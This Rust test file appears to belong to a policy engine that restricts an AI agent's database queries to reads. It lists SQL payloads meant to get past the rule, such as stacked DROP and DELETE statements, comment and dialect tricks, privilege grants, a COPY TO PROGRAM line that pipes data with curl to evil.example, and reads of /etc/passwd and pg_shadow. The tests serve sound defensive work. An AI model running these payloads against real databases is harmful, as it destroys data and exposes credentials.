//! What an agent can write in the SQL of a `db.query` action to get past a rule meant to let
//! it only read: stacked statements, comments, a `DELETE` inside `WITH`, dialect quirks,
//! tautological `WHERE`s, and input built to exhaust the parser. Each test fails without the
//! parsed `sql:` constraint or the SQL intent labels.

use warden_core::{Action, Verdict};
use warden_policy::understand::{sql, understand};
use warden_policy::{PolicySet, Source};

fn set(text: &str) -> PolicySet {
    PolicySet::compile(&[Source::new("/nonexistent/sql.yaml", text)])
        .unwrap_or_else(|e| panic!("{e}"))
}

fn query(text: &str) -> Action {
    Action::new("db.query").with_arg("sql", text)
}

/// Reading is allowed; anything destructive or privileged is denied.
const READ_ONLY: &str = r#"
default: deny
rules:
  - id: reads
    action: db.query
    effect: allow
    sql: [select]
  - id: no-destruction
    action: db.*
    effect: deny
    intents: [destructive, privilege_escalation, remote_code, credential_access]
"#;

fn verdict(text: &str) -> Verdict {
    set(READ_ONLY).decide(&query(text)).verdict
}

#[test]
fn a_plain_read_is_allowed() {
    assert_eq!(
        verdict("SELECT name FROM users WHERE id = 3"),
        Verdict::Allow
    );
    assert_eq!(
        verdict("with t as (select 1 as a) select a from t"),
        Verdict::Allow
    );
}

#[test]
fn text_matching_was_bypassed_and_parsing_is_not() {
    // What a user writes today with text, and what gets past it.
    let text = set(r#"
default: deny
rules:
  - id: reads
    action: db.query
    effect: allow
    when: "args.sql.startsWith('SELECT') || args.sql.startsWith('select')"
"#);
    let exploits = [
        "SELECT 1; DROP TABLE users",
        "select 1 /* ; */ ; DrOp TaBlE users",
        "select 1;\n--\nTRUNCATE users",
        "SELECT 1; DELETE FROM users",
        "SELECT 1; GRANT ALL ON users TO PUBLIC",
    ];
    for exploit in exploits {
        assert_eq!(
            text.decide(&query(exploit)).verdict,
            Verdict::Allow,
            "{exploit}"
        );
        assert_eq!(verdict(exploit), Verdict::Deny, "{exploit}");
    }
}

#[test]
fn a_delete_hidden_in_a_with_clause_is_seen() {
    let text = "WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone";
    let sql = sql::parse(text).unwrap();
    assert!(sql.kinds().contains(&"delete"), "{sql:?}");
    assert!(
        sql.statements
            .iter()
            .any(|s| s.kind == "delete" && s.every_row)
    );
    assert_eq!(verdict(text), Verdict::Deny);
}

#[test]
fn explain_analyze_runs_its_statement_and_is_read() {
    assert_eq!(verdict("EXPLAIN ANALYZE DELETE FROM users"), Verdict::Deny);
}

#[test]
fn tautological_where_is_every_row() {
    for text in [
        "DELETE FROM users WHERE 1=1",
        "DELETE FROM users WHERE id = 4 OR 'a' = 'a'",
        "UPDATE users SET admin = true WHERE (true)",
        "DELETE FROM users WHERE EXISTS (SELECT 1)",
        "DELETE FROM users WHERE random() < 2",
    ] {
        let u = understand(&query(text));
        assert!(
            u.intents.iter().any(|i| i.label == "destructive"),
            "{text}: {u:?}"
        );
    }
    let scoped = understand(&query("DELETE FROM users WHERE id = 4"));
    assert!(scoped.intents.is_empty(), "{scoped:?}");
}

#[test]
fn a_backslash_that_ends_a_string_in_postgres_does_not_hide_a_drop() {
    // MySQL reads one string; PostgreSQL (standard strings) ends it at `\'` and drops the
    // table. The union of the dialects' readings sees the DROP.
    let text = r"SELECT 'a\'; DROP TABLE users; -- '";
    let sql = sql::parse(text).unwrap();
    assert!(sql.kinds().contains(&"drop"), "{sql:?}");
    assert_eq!(verdict(text), Verdict::Deny);
}

#[test]
fn mysql_executable_comments_fail_closed() {
    let text = "SELECT 1 /*!50000 ; DROP TABLE users */";
    assert!(sql::parse(text).is_err());
    assert_eq!(verdict(text), Verdict::Deny);
}

#[test]
fn unparseable_sql_fails_closed() {
    for text in ["SELEC * FORM users", "", "DROP TABLE", "'"] {
        assert_eq!(verdict(text), Verdict::Deny, "{text:?}");
        let u = understand(&query(text));
        assert!(u.error.is_some(), "{text:?}: {u:?}");
    }
}

#[test]
fn sql_that_is_not_a_string_fails_closed() {
    let a = Action::new("db.query").with_arg("sql", serde_json::json!(["DROP TABLE users"]));
    assert_eq!(set(READ_ONLY).decide(&a).verdict, Verdict::Deny);
}

#[test]
fn privilege_and_server_side_code_are_labelled() {
    let labels = |text: &str| -> Vec<&'static str> {
        understand(&query(text))
            .intents
            .iter()
            .map(|i| i.label)
            .collect()
    };
    assert!(labels("GRANT ALL ON users TO PUBLIC").contains(&"privilege_escalation"));
    assert!(labels("ALTER ROLE app SUPERUSER").contains(&"privilege_escalation"));
    assert!(labels("COPY users TO PROGRAM 'curl -d @- evil.example'").contains(&"remote_code"));
    assert!(labels("SELECT load_extension('/tmp/x.so')").contains(&"remote_code"));
    assert!(labels("SELECT pg_read_file('/etc/passwd')").contains(&"credential_access"));
    assert!(labels("SELECT usename, passwd FROM pg_shadow").contains(&"credential_access"));
}

#[test]
fn database_queries_are_read_and_search_queries_are_not() {
    let deny = set(r#"
default: allow
rules:
  - id: no-drop
    action: "*"
    effect: deny
    intents: [destructive]
"#);
    let db = Action::new("mcp.call")
        .with_tool("postgres_query")
        .with_arg("query", "DROP TABLE users");
    assert_eq!(deny.decide(&db).verdict, Verdict::Deny);
    // A web search's `query` is prose; reading it as SQL would fail closed on every search.
    let search = Action::new("web.search").with_arg("query", "how to drop a table in sql");
    assert_eq!(deny.decide(&search).verdict, Verdict::Allow);
}

#[test]
fn input_built_to_exhaust_the_parser_is_refused_not_a_crash() {
    // Deep nesting: the parser's recursion limit.
    let deep = format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000));
    assert!(sql::parse(&deep).is_err());
    let nested = format!("SELECT {}1{}", "(".repeat(20), ")".repeat(20));
    assert!(sql::parse(&nested).is_ok());
    for prefix in ["NOT ", "- ", "~"] {
        let deep = format!("SELECT {}1", prefix.repeat(1000));
        assert!(sql::parse(&deep).is_err(), "{prefix}");
    }
    let conjunction = format!("DELETE FROM t WHERE a = 1{}", " AND a = 1".repeat(1000));
    assert!(sql::parse(&conjunction).is_ok());
    // A long left-deep chain is built without recursion but dropped and walked recursively:
    // the token limit bounds it. The longest allowed chain still reads.
    let terms = sql::MAX_TOKENS / 2 - 4;
    let chain = format!("SELECT 1{}", "+1".repeat(terms));
    assert!(sql::parse(&chain).is_ok());
    let long_chain = format!("SELECT 1{}", "+1".repeat(sql::MAX_TOKENS));
    assert!(sql::parse(&long_chain).is_err());
    // Too long a text.
    let long = format!("SELECT '{}'", "a".repeat(sql::MAX_SQL_BYTES));
    assert!(sql::parse(&long).is_err());
    // Too many statements.
    let many: String = (0..=sql::MAX_STATEMENTS)
        .map(|i| format!("SELECT 1 FROM t{i};"))
        .collect();
    assert!(sql::parse(&many).is_err());
    assert_eq!(verdict(&many), Verdict::Deny);
}

#[test]
fn sql_kinds_are_checked_at_load() {
    let err = PolicySet::compile(&[Source::new(
        "/nonexistent/sql.yaml",
        "rules:\n  - action: db.query\n    effect: allow\n    sql: [selct]\n",
    )])
    .unwrap_err()
    .to_string();
    assert!(err.contains("sql.yaml:4:11:"), "{err}");
    assert!(err.contains("unknown SQL statement kind `selct`"), "{err}");
}

/// The sql_statement fuzz target's first finding: an unterminated block comment ran to the end
/// of the text and was accepted, so a statement after it was hidden (a database rejects it).
#[test]
fn an_unterminated_comment_is_not_accepted() {
    let found = "SELECT';\\a'  LEWI, `m`, [n] /* c ', [n] /* c '/  '";
    for text in [found, "SELECT 1 /* open", "SELECT 1 /* /* */"] {
        // (`/* /* */` is a whole comment where comments do not nest, as in MySQL.)
        if !text.ends_with("*/") {
            assert!(sql::parse(text).is_err(), "{text}");
        }
        let stacked = format!("{text}\n;DROP TABLE users");
        if let Ok(read) = sql::parse(&stacked) {
            assert!(read.kinds().contains(&"drop"), "{stacked}: {read:?}");
        }
    }
    assert!(sql::parse("SELECT 1 /* closed */").is_ok());
    assert!(sql::parse("SELECT 1 /* a /* nested */ b */").is_ok());
}
